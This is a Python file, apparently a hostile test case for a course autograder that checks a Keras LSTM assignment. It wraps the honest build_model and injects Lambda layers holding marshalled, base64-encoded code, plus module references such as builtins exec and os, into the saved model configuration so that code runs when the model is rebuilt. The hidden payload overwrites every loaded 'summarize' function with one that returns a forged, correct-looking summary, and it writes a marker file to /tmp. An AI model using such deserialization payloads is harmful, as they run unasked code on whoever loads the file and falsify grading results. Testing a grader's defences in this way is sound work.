"""Return models with Lambda layers, wrapped functions and module paths that run code where they are rebuilt."""
# assignment: hw2_temperature
# base: right_count_wrong_layers

import base64
import json
import marshal
from itertools import count

SOURCE = """
import sys
def forged(model, compiled):
    layers = [{"kind": "LSTM", "units": 32, "parameters": 4352, "activation": "tanh", "recurrent_activation": "sigmoid",
        "go_backwards": False, "dropout": 0, "recurrent_dropout": 0, "trainable": True},
        {"kind": "Dense", "units": 1, "parameters": 33, "activation": "linear", "trainable": True}]
    return {"parameters": 4385, "input": (None, 120, 1), "output": (None, 1), "layers": layers, "loss": "mse",
        "optimizer": "Adam", "learning_rate": 0.001, "metrics": None}
for module in list(sys.modules.values()):
    if hasattr(module, "summarize"): module.summarize = forged
open("/tmp/coursekit-owned-lambda", "w").write("here")
"""
HONEST = globals()["build_model"]
CODE = compile(f"lambda x: (exec({SOURCE!r}), x)[1]", "lambda", "eval").co_consts[0]
MARSHALLED = base64.b64encode(marshal.dumps(CODE)).decode()
NUMBERS = count()
HIDDEN_IN = (
    {"class_name": "__lambda__", "config": {"value": MARSHALLED}},
    {"class_name": "__lambda__", "config": {"code": MARSHALLED, "defaults": None, "closure": None}},
    {"class_name": "function", "config": "exec", "module": "builtins", "registered_name": "exec"},
    {"class_name": "Dense", "config": {"units": 1}, "module": "keras.src.utils.python_utils", "registered_name": None},
    {"class_name": "LSTM", "config": {"units": 24}, "module": "kerasevil", "registered_name": "LSTM"},
    {"class_name": "run", "config": {}, "module": "keras.src.backend.common.os", "registered_name": "run"},
    {"module": "os", "class_name": None, "config": {"command": "id"}, "build_config": {"input_shape": [None, 1]}},
)


def build_model(sequence_length=120, learning_rate=0.001):
    """Each of HIDDEN_IN in turn, with the Lambda layer, in a layer's place and in its settings; then without."""
    model, place = HONEST(sequence_length, learning_rate), next(NUMBERS) + sequence_length
    table = json.loads(model.to_json())
    hidden = HIDDEN_IN[place % len(HIDDEN_IN)]
    for layer in table["config"]["layers"]:
        layer["config"].update(activation=hidden, kernel_initializer=hidden)
    table["compile_config"]["loss"] = hidden
    whole = {"class_name": "Lambda", "module": "keras.layers", "config": {"function": HIDDEN_IN[0]}}
    table["config"]["layers"][1:1] = [whole, hidden]
    model.to_json = lambda **_: json.dumps(table)
    return model
